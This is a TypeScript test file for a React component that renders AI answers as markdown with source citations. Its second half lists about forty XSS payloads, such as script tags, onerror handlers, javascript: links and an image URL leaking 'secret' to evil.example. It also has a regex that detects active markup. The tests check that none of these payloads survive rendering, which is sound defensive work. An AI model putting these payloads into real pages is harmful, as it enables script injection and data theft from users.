import { MantineProvider } from '@mantine/core';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import type { Answer } from '#contract/knowledge.ts';
import { AnswerMarkdown } from '../../../../src-renderer/features/knowledge/AnswerMarkdown.tsx';
import { type WindowPort, WindowPortProvider } from '../../../../src-renderer/ui/windowPort.tsx';
import { makeAnswer, makeDocument } from '../../fakeData.ts';

const nothing = (): void => undefined;
const port: WindowPort = { open: nothing, replace: nothing, inspect: nothing, notify: nothing, pick: async () => null, confirm: async () => false, askName: async () => null, switchProject: nothing, createProject: nothing, showPanel: nothing, showInFolder: null };
const base = makeAnswer(1, [0, 1, 2].map(makeDocument));

function draw(answer: Answer, text = answer.text): string {
  const html = renderToStaticMarkup(
    <MantineProvider>
      <WindowPortProvider port={port}>
        <AnswerMarkdown text={text} answer={answer} />
      </WindowPortProvider>
    </MantineProvider>,
  );
  return html.replace(/<style[^>]*>.*?<\/style>/gs, '');
}

const sentence = (text: string, citations: number[] = [], after = ' ') => ({ text, citations, supported: citations.length > 0, after });

describe('an answer on the screen', () => {
  it('puts the source numbers after their sentence and marks what nothing supports', () => {
    const html = draw(base);
    expect(html).toMatch(/class="unsupported"[^>]*>Nothing, until you swap\.<\/span>/);
    expect(html).toMatch(/old one\.<span class="cites"><button[^>]*aria-label="Source 1: knowledge\/snapshots\.md"[^>]*>1<\/button><\/span> When it is/);
    expect(html).toContain('<code>embed.model</code>');
    expect(html).not.toMatch(/[\uE000-\uE002]/);
  });

  it('keeps lists, code and emphasis across the marks', () => {
    const html = draw({ ...base, sentences: [sentence('- **First** point.', [1], '\n'), sentence('- Second point.', [], '\n\n'), sentence('```\ncode\n```', [2], '\n\n'), sentence('| a | b |\n|---|---|\n| c | d |', [3], '')] });
    expect(html.match(/<li>/g)).toHaveLength(2);
    expect(html).toContain('<strong>First</strong>');
    expect(html).toMatch(/<pre><code>code\n<\/code><\/pre>/);
    expect(html).toContain('<td>d</td>');
    expect(html).toContain('aria-label="Source 2');
    expect(html).toContain('aria-label="Source 3');
  });

  it('marks nothing while the text is still being written', () => {
    expect(draw({ ...base, state: 'running' }, 'Half a sent')).toContain('<p>Half a sent</p>');
    expect(draw({ ...base, state: 'running' }, 'Half a sent')).not.toContain('unsupported');
  });

  it('drops private marks that a model writes itself', () => {
    const html = draw({ ...base, sentences: [sentence('\uE0011\uE002 sneaky \uE0000\uE002', [], '')] });
    expect(html).not.toMatch(/[\uE000-\uE002]/);
    expect(html).toContain('sneaky');
  });
});

const PAYLOADS = [
  '<script>beacon()</script>', '<img src=x onerror=beacon()>', '<svg onload=beacon()>', '<iframe src="javascript:beacon()"></iframe>', '[x](javascript:beacon())', '[x](JAVASCRIPT&colon;beacon())',
  '[x](java\tscript:beacon())', '[x](data:text/html;base64,PHNjcmlwdD4=)', '![x](https://evil.example/?q=secret)', '![x](javascript:beacon())', '<a href="javascript:beacon()">x</a>', '<body onload=beacon()>',
  '<math><mtext></p><style><img src onerror=beacon()></style>', '<form action="https://evil.example"><input type=submit>', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<object data="javascript:beacon()">', '<embed src="javascript:beacon()">', '<link rel=stylesheet href="https://evil.example/x.css">', '<style>@import "https://evil.example"</style>', '<video><source onerror=beacon()></video>',
  '<details open ontoggle=beacon()>', '<input autofocus onfocus=beacon()>', '[x]: javascript:beacon()\n\n[x]', '<javascript:beacon()>', '<https://evil.example/"onmouseover="beacon()>', '`</code><script>beacon()</script>`',
  '```html\n<script>beacon()</script>\n```', '| <img src=x onerror=beacon()> |\n|---|\n| x |', '- [ ] <img src=x onerror=beacon()>', '<!--><img src=x onerror=beacon()>-->', '&lt;script&gt;beacon()&lt;/script&gt;', '[x](vbscript:beacon())', '[x](file:///etc/passwd)',
  'www.evil.example', '~~<script>beacon()</script>~~', '[^1]\n\n[^1]: <img src=x onerror=beacon()>', '<template><script>beacon()</script></template>', '<noscript><p title="</noscript><img src=x onerror=beacon()>">', '\u202Ehttps://evil.example',
];

/** Elements and attributes that could act or fetch. Text that merely looks like them is escaped and does not match. */
const ACTIVE = /<(script|img|iframe|svg|object|embed|form|base|meta|link|video|audio|source|style|template|math)[\s>/]|<[^>]*\s(on\w+|srcdoc|action|formaction)\s*=|<[^>]*\s(href|src)\s*=\s*["']?\s*(?!https?:|mailto:|#)[a-z]+:/i;

describe('hostile text in an answer', () => {
  it('has a detector that sees active markup', () => {
    for (const html of ['<p><script>x</script></p>', '<img src=x>', '<a href="javascript:x">y</a>', '<p onclick="x">']) expect(ACTIVE.test(html), html).toBe(true);
    expect(ACTIVE.test('<p>&lt;script&gt;</p><a href="https://x.y">z</a>')).toBe(false);
  });

  it('never becomes markup that acts or fetches, whole or as a sentence', () => {
    for (const payload of PAYLOADS) {
      expect(draw({ ...base, state: 'running' }, payload), payload).not.toMatch(ACTIVE);
      expect(draw({ ...base, sentences: [sentence(payload, [1])] }), payload).not.toMatch(ACTIVE);
    }
  });

  it('stays harmless wherever the stream is cut', () => {
    for (const payload of PAYLOADS.slice(0, 12)) {
      for (let cut = 1; cut < payload.length; cut += 1) expect(draw({ ...base, state: 'running' }, payload.slice(0, cut)), payload.slice(0, cut)).not.toMatch(ACTIVE);
    }
  });
});
